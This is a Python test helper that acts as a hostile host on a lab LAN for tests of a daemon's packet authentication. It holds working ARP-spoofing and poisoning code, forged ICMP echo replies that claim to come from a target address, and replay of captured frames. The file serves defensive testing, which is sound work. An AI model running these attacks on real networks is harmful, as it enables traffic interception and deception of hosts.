#!/usr/bin/env python3
"""A hostile host on the test LAN, for tests/forgery.rs (lab namespaces only).

  lanhost.py IFACE SECONDS [--liar TARGET [--announce MAC,...]]
             [--replay PCAP [--spoof-source]]

--liar TARGET  answers every ARP request for TARGET with this host's own MAC
               and reflects every ICMP echo request for TARGET it receives
               as an echo reply (source TARGET, Ethernet source its own MAC):
               what a LAN host can do without the daemon's key.
--announce     also tells each MAC listed, 20 times a second and unasked,
               that TARGET is at this host (ARP poisoning).
--replay PCAP  sends the echo replies captured in PCAP (classic pcap, as
               tcpdump -w writes) over and over, 200 per second; with
               --spoof-source verbatim, else with this host's MAC as source.

Runs for SECONDS, then prints one line:
"arp=N announced=N reflected=N replayed=N".
"""
import socket
import struct
import sys
import time

ETH_P_ALL = 3
REPLAY_INTERVAL = 0.005  # 200 replayed frames per second
ANNOUNCE_INTERVAL = 0.05
POLL = 0.002


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def read_pcap(path):
    frames = []
    with open(path, "rb") as f:
        data = f.read()
    if len(data) < 24:
        return frames
    magic = struct.unpack("<I", data[:4])[0]
    endian = "<" if magic in (0xA1B2C3D4, 0xA1B23C4D) else ">"
    off = 24
    while off + 16 <= len(data):
        _, _, incl, _ = struct.unpack(endian + "IIII", data[off : off + 16])
        off += 16
        frames.append(data[off : off + incl])
        off += incl
    return frames


def main():
    args = sys.argv[1:]
    iface, seconds = args[0], float(args[1])
    target = None
    replay = []
    spoof = "--spoof-source" in args
    if "--liar" in args:
        target = socket.inet_aton(args[args.index("--liar") + 1])
    victims = []
    if "--announce" in args:
        victims = [bytes(int(x, 16) for x in m.split(":")) for m in args[args.index("--announce") + 1].split(",")]
    if "--replay" in args:
        replay = read_pcap(args[args.index("--replay") + 1])
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    s.settimeout(POLL)
    me = s.getsockname()[4][:6]
    if replay and not spoof:
        replay = [f[:6] + me + f[12:] for f in replay]
    arp = announced = reflected = replayed = 0
    next_announce = time.time()
    end = time.time() + seconds
    next_replay = time.time()
    while time.time() < end:
        try:
            f, addr = s.recvfrom(2048)
            outgoing = addr[2] == socket.PACKET_OUTGOING
        except socket.timeout:
            f, outgoing = b"", True
        if target and not outgoing and len(f) >= 42:
            if f[12:14] == b"\x08\x06" and f[20:22] == b"\x00\x01" and f[38:42] == target:
                # ARP request for the target: "it is me".
                sha, spa = f[22:28], f[28:32]
                s.send(sha + me + b"\x08\x06" + bytes.fromhex("0001080006040002") + me + target + sha + spa)
                arp += 1
            elif (
                f[12:14] == b"\x08\x00"
                and f[23] == 1
                and f[30:34] == target
            ):
                ihl = (f[14] & 0x0F) * 4
                icmp = bytearray(f[14 + ihl : 14 + struct.unpack("!H", f[16:18])[0]])
                if icmp and icmp[0] == 8:
                    icmp[0] = 0
                    icmp[2:4] = b"\0\0"
                    icmp[2:4] = struct.pack("!H", csum(bytes(icmp)))
                    ip = bytearray(f[14 : 14 + ihl])
                    ip[12:16], ip[16:20] = f[30:34], f[26:30]
                    ip[8] = 64
                    ip[10:12] = b"\0\0"
                    ip[10:12] = struct.pack("!H", csum(bytes(ip)))
                    s.send(f[6:12] + me + b"\x08\x00" + bytes(ip) + bytes(icmp))
                    reflected += 1
        now = time.time()
        if target and victims and now >= next_announce:
            for v in victims:
                s.send(v + me + b"\x08\x06" + bytes.fromhex("0001080006040002") + me + target + v + b"\0\0\0\0")
                announced += 1
            next_announce = now + ANNOUNCE_INTERVAL
        if replay and now >= next_replay:
            s.send(replay[replayed % len(replay)])
            replayed += 1
            next_replay = now + REPLAY_INTERVAL
    print("arp=%d announced=%d reflected=%d replayed=%d" % (arp, announced, reflected, replayed), flush=True)


if __name__ == "__main__":
    main()
